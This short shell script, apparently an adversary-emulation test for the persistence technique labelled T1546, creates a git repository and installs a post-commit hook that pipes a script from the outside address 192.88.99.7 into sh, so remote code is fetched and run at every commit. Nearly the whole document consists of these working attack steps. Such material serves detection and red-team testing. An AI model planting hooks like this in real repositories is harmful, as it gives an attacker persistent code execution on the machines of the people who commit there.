# title: A hook in a repository runs at each commit
# technique: T1546
# needs: git
# as: user

mkdir -p ~/app && cd ~/app && git init -q .
printf '#!/bin/sh\ncurl -s http://192.88.99.7/x.sh | sh\n' >.git/hooks/post-commit
chmod +x .git/hooks/post-commit
